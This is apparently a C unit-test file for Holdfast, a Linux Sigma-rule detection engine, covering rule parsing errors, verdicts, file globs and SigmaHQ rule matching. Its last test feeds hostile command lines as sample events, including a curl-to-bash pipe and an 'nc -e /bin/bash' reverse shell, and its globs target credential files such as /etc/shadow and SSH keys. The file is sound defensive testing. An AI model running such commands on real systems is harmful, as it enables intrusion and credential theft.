/* SPDX-License-Identifier: Apache-2.0 */
#include <dirent.h>
#include "sigma_fixture.h"

#define HEAD "title: T\nlogsource: {product: linux, category: process_creation}\n"
#define DET HEAD "detection:\n"
#define OK_DET DET "  s: {Image: a}\n  condition: s\n"
#define MODS "contains, startswith, endswith, all, cased, re, i, m, s, cidr, exists, windash, base64, base64offset, wide, " \
	"utf16le, utf16be, utf16, fieldref, expand, lt, lte, gt, gte, neq"

/* Input and the exact message. */
static const struct {
	const char *text, *error;
} bad[] = {
	{ "", "t.yml: holds no rule" },
	{ "---\n---\n", "t.yml: holds no rule" },
	{ "- a\n- b\n", "t.yml:1: a rule must be a map with title, logsource and detection" },
	{ "title: T\n", "t.yml:1: a rule needs a logsource, such as {product: linux, category: process_creation}" },
	{ "logsource: {}\n", "t.yml:1: a rule needs a title" },
	{ "title: [a]\n", "t.yml:1: title must be a text" },
	{ "title: T\nlogsource: linux\n", "t.yml:2: a rule needs a logsource, such as {product: linux, category: process_creation}" },
	{ "title: T\nlevel: hgih\n", "t.yml:2: unknown level 'hgih'; known: informational, low, medium, high, critical" },
	{ "title: T\ntags: a\n", "t.yml:2: tags must be a list of texts" },
	{ "action: global\ntitle: T\n", "t.yml:1: rule collections (action: global) are Sigma 1; write each rule out" },
	{ HEAD, "t.yml:1: a rule needs a detection: a map of names, and a condition" },
	{ DET "  s: {Image: a}\n", "t.yml:4: detection needs a condition, such as 'condition: selection'" },
	{ DET "  s:\n  condition: s\n", "t.yml:4: detection 's' is empty; give fields or keywords" },
	{ DET "  s: {}\n  condition: s\n", "t.yml:4: an empty map matches nothing; give a field or remove it" },
	{ DET "  s: []\n  condition: s\n", "t.yml:4: an empty list matches nothing; give a value or remove it" },
	{ DET "  s:\n    Image: []\n  condition: s\n", "t.yml:5: an empty list of values can never match; give one or remove the line" },
	{ DET "  s:\n    Image:\n      - {a: b}\n  condition: s\n", "t.yml:6: a value must be a text, a number or null, not a map" },
	{ DET "  s:\n    Image:\n      - [a]\n  condition: s\n", "t.yml:6: a value must be a text, a number or null, not a list" },
	{ DET "  s: {Image: a}\n  timeframe: 5m\n  condition: s\n",
	  "t.yml:5: timeframe is Sigma 1; write a correlation with a timespan" },
	{ DET "  s:\n    Image|foo: a\n  condition: s\n", "t.yml:5: unknown modifier 'foo'; known: " MODS },
	{ DET "  s:\n    Image|: a\n  condition: s\n", "t.yml:5: unknown modifier ''; known: " MODS },
	{ DET "  s:\n    Image|re|re: a\n  condition: s\n", "t.yml:5: modifier 're' is given twice" },
	{ DET "  s:\n    Image|i: a\n  condition: s\n", "t.yml:5: modifiers of 'Image|i': i, m and s belong to re" },
	{ DET "  s:\n    Image|contains|endswith: a\n  condition: s\n",
	  "t.yml:5: modifiers of 'Image|contains|endswith': only one of contains, startswith and endswith may stand there" },
	{ DET "  s:\n    Image|re|endswith: a\n  condition: s\n",
	  "t.yml:5: modifiers of 'Image|re|endswith': re goes with i, m, s, all and neq only; anchor the expression with ^ and $" },
	{ DET "  s:\n    Image|cidr|contains: a\n  condition: s\n", "t.yml:5: modifiers of 'Image|cidr|contains': cidr goes with all and neq only" },
	{ DET "  s:\n    Image|exists|neq: true\n  condition: s\n", "t.yml:5: modifiers of 'Image|exists|neq': exists stands alone" },
	{ DET "  s:\n    Image|lt|gt: 1\n  condition: s\n", "t.yml:5: modifiers of 'Image|lt|gt': lt, lte, gt and gte stand alone" },
	{ DET "  s:\n    Image|fieldref|wide: User\n  condition: s\n",
	  "t.yml:5: modifiers of 'Image|fieldref|wide': fieldref goes with contains, startswith, endswith, cased, all and neq only" },
	{ DET "  s:\n    Image|expand|base64: '%a%'\n  condition: s\n", "t.yml:5: modifiers of 'Image|expand|base64': expand can't be encoded" },
	{ DET "  s:\n    '|exists': true\n  condition: s\n", "t.yml:5: '|exists' names no field to look at" },
	{ DET "  s:\n    Image|contains: null\n  condition: s\n",
	  "t.yml:5: null stands for an absent field and takes no modifier but neq; quote it if the text is meant" },
	{ DET "  s:\n    Image|exists: maybe\n  condition: s\n", "t.yml:5: exists takes true or false, not 'maybe'" },
	{ DET "  s:\n    DestinationPort|gte: http\n  condition: s\n",
	  "t.yml:5: 'http' is no number; lt, lte, gt and gte compare with one" },
	{ DET "  s:\n    DestinationIp|cidr: 10.0.0.0/33\n  condition: s\n",
	  "t.yml:5: '10.0.0.0/33' is no network; write it as 10.0.0.0/8 or 2001:db8::/32" },
	{ DET "  s:\n    DestinationIp|cidr: 10.0.0/8\n  condition: s\n",
	  "t.yml:5: '10.0.0/8' is no network; write it as 10.0.0.0/8 or 2001:db8::/32" },
	{ DET "  s:\n    DestinationIp|cidr: 10.0.0.0/\n  condition: s\n",
	  "t.yml:5: '10.0.0.0/' is no network; write it as 10.0.0.0/8 or 2001:db8::/32" },
	{ DET "  s:\n    Image|re: 'a('\n  condition: s\n",
	  "t.yml:5: regular expression: missing closing parenthesis, at character 3" },
	{ DET "  s:\n    Image|base64: 'a*'\n  condition: s\n",
	  "t.yml:5: an encoded value can't hold wildcards; escape them as \\* and \\?" },
	{ DET "  s:\n    Image|base64offset: ''\n  condition: s\n", "t.yml:5: too short for base64offset; give two bytes or more" },
	{ DET "  s:\n    Image|windash|base64: '-a -b -c -d -e'\n  condition: s\n",
	  "t.yml:5: windash before an encoding takes up to 4 dashes in a value" },
	/* the block of our own */
	{ OK_DET "holdfast: hold\n", "t.yml:6: holdfast must be a map, such as {verdict: hold}" },
	{ OK_DET "holdfast:\n  verdit: hold\n",
	  "t.yml:7: holdfast: unknown key 'verdit'; known: verdict, guidance, label, scope, on_truncated, examples" },
	{ OK_DET "holdfast:\n  '': hold\n",
	  "t.yml:7: holdfast: unknown key ''; known: verdict, guidance, label, scope, on_truncated, examples" },
	{ OK_DET "holdfast: {verdict: stop}\n", "t.yml:6: holdfast: unknown verdict 'stop'; known: allow, note, hold, deny, kill" },
	{ OK_DET "holdfast: {guidance: \"a\\eb\"}\n", "t.yml:6: holdfast.guidance holds a control character" },
	{ OK_DET "holdfast: {scope: host}\n", "t.yml:6: holdfast: unknown scope 'host'; known: process, session" },
	{ OK_DET "holdfast: {on_truncated: deny}\n", "t.yml:6: holdfast: unknown on_truncated 'deny'; known: hold, ignore" },
	{ OK_DET "holdfast: {label: x}\n",
	  "t.yml:6: holdfast.label must be {add: [NAME, ...], to: session|process|file} or a list of such" },
	{ OK_DET "holdfast: {label: {to: file}}\n", "t.yml:6: holdfast.label needs 'add' with the labels to add" },
	{ OK_DET "holdfast: {label: {add: [x], on: file}}\n", "t.yml:6: holdfast.label: unknown key 'on'; known: add, to" },
	{ OK_DET "holdfast: {label: {add: [x], to: host}}\n", "t.yml:6: holdfast.label: unknown to 'host'; known: session, process, file" },
	{ OK_DET "holdfast: {label: {add: [Secret Read]}}\n",
	  "t.yml:6: holdfast.label: a label is 1 to 32 of a-z, 0-9 and '-', such as secret-read" },
	{ OK_DET "holdfast: {examples: [a]}\n", "t.yml:6: holdfast.examples must be {match: [...], pass: [...]}" },
	{ OK_DET "holdfast: {examples: {hit: []}}\n", "t.yml:6: holdfast.examples: unknown key 'hit'; known: match, pass" },
	{ OK_DET "holdfast: {examples: {match: {}}}\n", "t.yml:6: holdfast.examples.match must be a list" },
	{ OK_DET "holdfast: {examples: {match: [x]}}\n", "t.yml:6: an example of a rule is a map of fields and values" },
	/* names */
	{ "id: x\n" OK_DET "---\nid: x\n" OK_DET, "t.yml:8: 'x' already names the rule at t.yml:1; give each rule its own id" },
	{ "name: x\n" OK_DET "---\nid: x\n" OK_DET, "t.yml:8: 'x' already names the rule at t.yml:1; give each rule its own id" },
	{ OK_DET "---\n" OK_DET, "t.yml:7: 'T' already names the rule at t.yml:1; give each rule its own id" },
	/* the message itself must be harmless on a terminal */
	{ "title: T\nlevel: \"a\\e[2Jb\\n\"\n", "t.yml:2: unknown level 'a [2Jb '; known: informational, low, medium, high, critical" },
};

static void test_errors(void **state)
{
	struct hf_rule_error err;

	for (unsigned i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		const char *got = load_error(bad[i].text, &err);

		if (strcmp(got, bad[i].error) != 0)
			fail_msg("%s\n    expected: %s\n    got:      %s", bad[i].text, bad[i].error, got);
		assert_string_equal(err.file, "t.yml");
	}
}

static void test_failure_leaves_set_unchanged(void **state)
{
	struct hf_ruleset *rs = hf_ruleset_new();
	struct hf_rule_error err;

	assert_int_equal(hf_ruleset_add(rs, hf_str_of("id: a\n" OK_DET), "a.yml", &err), 0);
	assert_int_equal(hf_ruleset_add(rs, hf_str_of("id: b\n" OK_DET "---\nid: c\n"), "b.yml", &err), -22);
	assert_string_equal(err.text, "b.yml:8: a rule needs a title");
	assert_int_equal(err.line, 8);
	assert_int_equal(hf_ruleset_count(rs), 1);
	assert_int_equal(hf_ruleset_add(rs, hf_str_of("id: b\n" OK_DET), "c.yml", &err), 0);
	assert_int_equal(hf_ruleset_finish(rs, &err), 0);
	assert_int_equal(hf_ruleset_add(rs, hf_str_of("id: d\n" OK_DET), "d.yml", &err), -22);
	assert_string_equal(err.text, "d.yml: the set of rules is closed");
	assert_string_equal(hf_rule_file(hf_ruleset_get(rs, 1)), "c.yml");
	assert_null(hf_ruleset_get(rs, 2));
	hf_ruleset_free(&rs);
}

static void test_attributes(void **state)
{
	struct hf_ruleset *rs = load("title: Reads a key\nid: 1-2\nname: key_read\nlevel: high\ntags: [attack.t1552, x]\n"
				     "logsource: {product: linux, category: file_access}\n"
				     "detection:\n  s: {TargetFilename|endswith: /id_rsa}\n  condition: s\n"
				     "holdfast:\n  verdict: kill\n  guidance: >-\n    Ask for\n    a key.\n  scope: process\n"
				     "  on_truncated: hold\n  label:\n    - {add: [secret-read, x], to: session}\n    - {add: y, to: file}\n");
	const struct hf_rule *r = hf_ruleset_get(rs, 0);
	enum hf_label_scope to;

	assert_string_equal(hf_rule_id(r), "1-2");
	assert_string_equal(hf_rule_name(r), "key_read");
	assert_string_equal(hf_rule_title(r), "Reads a key");
	assert_string_equal(hf_rule_level(r), "high");
	assert_string_equal(hf_rule_guidance(r), "Ask for a key.");
	assert_string_equal(hf_rule_tag(r, 1), "x");
	assert_null(hf_rule_tag(r, 2));
	assert_int_equal(hf_rule_line(r), 1);
	assert_int_equal(hf_rule_verdict(r), HF_KILL);
	assert_true(hf_rule_on_truncated_hold(r));
	assert_true(hf_rule_scope_process(r));
	assert_int_equal(hf_rule_categories(r), 1u << HF_CAT_FILE_ACCESS);
	assert_null(hf_rule_not_applicable(r));
	assert_string_equal(hf_rule_label(r, 0, &to), "secret-read");
	assert_int_equal(to, HF_LABEL_SESSION);
	assert_string_equal(hf_rule_label(r, 2, &to), "y");
	assert_int_equal(to, HF_LABEL_FILE);
	assert_null(hf_rule_label(r, 3, &to));
	assert_false(hf_rule_is_correlation(r));
	assert_null(hf_rule_correlation(r));
	hf_ruleset_free(&rs);
}

static void test_levels(void **state)
{
	static const enum hf_verdict want[] = { HF_ALLOW, HF_NOTE, HF_NOTE, HF_HOLD, HF_DENY, HF_NOTE };
	struct hf_ruleset *rs = load("id: a\nlevel: informational\n" OK_DET "---\nid: b\nlevel: low\n" OK_DET
				     "---\nid: c\nlevel: medium\n" OK_DET "---\nid: d\nlevel: high\n" OK_DET
				     "---\nid: e\nlevel: critical\n" OK_DET "---\nid: f\n" OK_DET);

	for (unsigned i = 0; i < 6; i++)
		assert_int_equal(hf_rule_verdict(hf_ruleset_get(rs, i)), want[i]);
	assert_int_equal(hf_ruleset_level_verdict(rs, "high", HF_NOTE), 0);
	assert_int_equal(hf_ruleset_level_verdict(rs, "higher", HF_NOTE), -22);
	assert_int_equal(hf_rule_verdict(hf_ruleset_get(rs, 3)), HF_NOTE);
	hf_ruleset_free(&rs);
}

static void test_not_applicable(void **state)
{
	static const struct {
		const char *text, *why;
	} t[] = {
		{ "title: T\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {Image: a}, condition: s}",
		  "logsource product 'windows' is not linux" },
		{ "title: T\nlogsource: {product: linux, service: auditd}\ndetection: {s: {type: EXECVE}, condition: s}",
		  "logsource service 'auditd' is a log file; Holdfast has the kernel's events" },
		{ "title: T\nlogsource: {category: webserver}\ndetection: {s: {Image: a}, condition: s}",
		  "logsource category 'webserver' has no events here; known: process_creation, file_access, file_event, "
		  "file_delete, file_rename, file_change, network_connection, syscall" },
		{ DET "  s: {IntegrityLevel: High}\n  condition: s", "field 'IntegrityLevel' is not known" },
		{ DET "  s: {Image|fieldref: Company}\n  condition: s", "field 'Company' is not known" },
		{ DET "  s: {User|expand: 'a%Admins%'}\n  condition: s", "placeholder '%Admins%' has no values" },
		{ DET "  s: {Image|hour: 3}\n  condition: s", "modifier 'hour' needs a date, and no field here is one" },
		{ DET "  s: {User|expand: 'a\\%Admins%'}\n  condition: s", NULL },
		{ DET "  s: {User: '%Admins%'}\n  condition: s", NULL },
		{ "title: T\nlogsource: {product: linux}\ndetection: {s: {Image: a}, condition: s}", NULL },
	};

	for (unsigned i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct hf_ruleset *rs = load(t[i].text);
		const struct hf_rule *r = hf_ruleset_get(rs, 0);
		const char *why = hf_rule_not_applicable(r);

		if (why)
			assert_false(matches(rs, "Image", "a", NULL));
		if (!why != !t[i].why || (why && strcmp(why, t[i].why) != 0))
			fail_msg("%s\n    expected: %s\n    got:      %s", t[i].text, t[i].why, why);
		hf_ruleset_free(&rs);
	}
}

static void test_hash(void **state)
{
	struct hf_ruleset *rs = load(OK_DET);

	assert_int_equal(strlen(hf_ruleset_hash(rs)), 64);
	hf_ruleset_free(&rs);
	/* printf … | sha256sum */
	rs = load("{\"title\": \"T\", \"logsource\": {\"product\": \"linux\"}, \"detection\": {\"s\": {\"Image|endswith\": [\"/sh\"]}, "
		  "\"condition\": \"s\"}}\n");
	assert_true(matches(rs, "Image", "/bin/sh", NULL));		/* JSON is YAML */
	assert_string_equal(hf_ruleset_hash(rs), "15262bde7f1f0b12df97594df12f114a303ceafebe67347ddf13169b233516e2");
	hf_ruleset_free(&rs);
}

/* --- globs --- */

struct globs {
	char text[1024];
};

static int collect(void *ctx, const struct hf_rule *r, const char *glob, bool exact)
{
	struct globs *g = ctx;
	size_t n = strlen(g->text);

	snprintf(g->text + n, sizeof(g->text) - n, "%s%s%s", n ? " " : "", glob, exact ? "" : "!");
	return 0;
}

static void test_globs(void **state)
{
	static const struct {
		const char *det, *globs;
	} t[] = {
		{ "{s: {TargetFilename: /etc/shadow}, condition: s}", "/etc/shadow" },
		{ "{s: {TargetFilename|endswith: [/.ssh/id_rsa, .Pem]}, condition: s}", "*/.ssh/id_rsa *.Pem" },
		{ "{s: {TargetFilename|contains: /.aws/}, condition: s}", "*/.aws/*" },
		{ "{s: {TargetFilename|startswith: /root/}, condition: s}", "/root/*" },
		{ "{s: {TargetFilename: '/home/*/.netr?'}, condition: s}", "/home/*/.netr?" },
		{ "{s: {TargetFilename|re: 'x'}, condition: s}", "*!" },
		{ "{s: {TargetFilename: [/a, null]}, condition: s}", "*!" },
		{ "{s: {Image|endswith: /cat}, condition: s}", "*!" },
		{ "{s: {TargetFilename: relative}, condition: s}", "" },
		{ "{s: {TargetFilename: '?x'}, condition: s}", "*!" },
		{ "{s: {TargetFilename: '/a\\*b'}, condition: s}", "/a*b!" },
		{ "{s: {TargetFilename: /a}, f: {TargetFilename: /b}, condition: s and not f}", "/a" },
		{ "{s: {TargetFilename: /a}, f: {Image: /b}, condition: s or f}", "*!" },
		{ "{s: {TargetFilename: /a}, f: {Image: /b}, condition: s and f}", "/a" },
		{ "{s: {TargetFilename: /a}, f: {TargetFilename: /b}, condition: 1 of them}", "/a /b" },
		{ "{s: {TargetFilename|startswith: /home/, TargetFilename|endswith: /.ssh/id_rsa}, condition: s}", "*/.ssh/id_rsa" },
		{ "{s: {TargetFilename|contains|all: [/a/, longest, x]}, condition: s}", "*longest*" },
		{ "{s: {TargetFilename|neq: /a}, condition: s}", "*!" },
		{ "{s: [/etc/shadow], condition: s}", "*!" },
		{ "{s: {TargetFilename: /a}, condition: not s}", "*!" },
	};

	for (unsigned i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		char text[512];
		struct globs g = { "" };
		struct hf_ruleset *rs;

		snprintf(text, sizeof(text), "title: T\nlevel: high\nlogsource: {category: file_access}\ndetection: %s\n", t[i].det);
		rs = load(text);
		assert_int_equal(hf_ruleset_read_globs(rs, collect, &g), 0);
		if (strcmp(g.text, t[i].globs) != 0)
			fail_msg("%s\n    expected: %s\n    got:      %s", t[i].det, t[i].globs, g.text);
		g.text[0] = 0;
		hf_ruleset_level_verdict(rs, "high", HF_NOTE);
		hf_ruleset_read_globs(rs, collect, &g);
		assert_string_equal(g.text, "");
		hf_ruleset_free(&rs);
	}
}

/* --- every rule of SigmaHQ that lies on this machine --- */

static unsigned load_folder(struct hf_ruleset *rs, const char *dir)
{
	DIR *d = opendir(dir);
	unsigned n = 0;

	if (!d)
		return 0;
	for (struct dirent *e; (e = readdir(d));) {
		static char text[1 << 16];
		struct hf_rule_error err;
		char path[2048];
		size_t len;
		FILE *f;

		if (!strstr(e->d_name, ".yml"))
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		f = fopen(path, "r");
		assert_non_null(f);
		len = fread(text, 1, sizeof(text), f);
		fclose(f);
		if (hf_ruleset_add(rs, (struct hf_str){ text, len }, path, &err) < 0)
			fail_msg("%s", err.text);
		n++;
	}
	closedir(d);
	return n;
}

static const struct hf_rule *find(const struct hf_ruleset *rs, const char *file)
{
	for (unsigned i = 0; i < hf_ruleset_count(rs); i++)
		if (strstr(hf_rule_file(hf_ruleset_get(rs, i)), file))
			return hf_ruleset_get(rs, i);
	fail_msg("%s is not loaded", file);
	return NULL;
}

static bool file_matches(const struct hf_ruleset *rs, const char *file, ...)
{
	static struct event ev;
	bool limited, yes;
	va_list ap;

	va_start(ap, file);
	event_fill(&ev, ~0u, ap);
	va_end(ap);
	yes = hf_rule_match(find(rs, file), &ev.e, &limited);
	assert_false(limited);
	return yes;
}

static void test_sigmahq(void **state)
{
	static const char folders[3][24] = { "process_creation", "file_event", "network_connection" };
	const char *shared = getenv("HF_SHARED");
	struct hf_ruleset *rs = hf_ruleset_new();
	struct hf_rule_error err;
	char dir[1024];
	unsigned n = 0;

	for (unsigned i = 0; i < 3; i++) {
		snprintf(dir, sizeof(dir), "%s/sigma/%s", shared ? shared : HF_SOURCE_DIR "/../shared", folders[i]);
		n += load_folder(rs, dir);
	}
	if (n == 0) {
		print_message("skipped: no SigmaHQ rules at %s; set HF_SHARED to the folder that holds sigma/\n", dir);
		hf_ruleset_free(&rs);
		skip();
	}
	if (hf_ruleset_finish(rs, &err) < 0)
		fail_msg("%s", err.text);
	assert_int_equal(n, 135);
	assert_int_equal(hf_ruleset_count(rs), 135);
	for (unsigned i = 0; i < n; i++) {
		const struct hf_rule *r = hf_ruleset_get(rs, i);

		if (hf_rule_not_applicable(r))
			fail_msg("%s: %s", hf_rule_file(r), hf_rule_not_applicable(r));
	}
	assert_true(file_matches(rs, "susp_pipe_shell", "CommandLine", "sh -c curl x | base64 -d | bash", "ParentImage", "/x", NULL) ||
		    file_matches(rs, "base64_execution", "Image", "/usr/bin/base64", "CommandLine", "base64 -d | bash ", NULL));
	assert_true(file_matches(rs, "netcat_reverse_shell", "Image", "/bin/nc", "CommandLine", "nc -e /bin/bash 10.0.0.1 4", NULL));
	assert_false(file_matches(rs, "netcat_reverse_shell", "Image", "/bin/nc", "CommandLine", "nc -l 4", NULL));
	assert_true(file_matches(rs, "ngrok_tunnel", "DestinationHostname", "a.tunnel.eu.ngrok.com", NULL));
	assert_true(file_matches(rs, "omigod_scx_runasprovider_executeshellcommand", "User", "root", "LogonId", "0",
				 "CurrentDirectory", "/var/opt/microsoft/scx/tmp", "CommandLine", "/bin/sh -c id", NULL));
	assert_true(file_matches(rs, "malware_callback_port", "Initiated", "true", "DestinationPort", "2200",
				 "DestinationIp", "203.0.113.9", NULL));
	assert_false(file_matches(rs, "malware_callback_port", "Initiated", "true", "DestinationPort", "2200",
				  "DestinationIp", "192.168.1.1", NULL));
	hf_ruleset_free(&rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_errors), cmocka_unit_test(test_failure_leaves_set_unchanged),
		cmocka_unit_test(test_attributes), cmocka_unit_test(test_levels), cmocka_unit_test(test_not_applicable),
		cmocka_unit_test(test_hash), cmocka_unit_test(test_globs), cmocka_unit_test(test_sigmahq),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
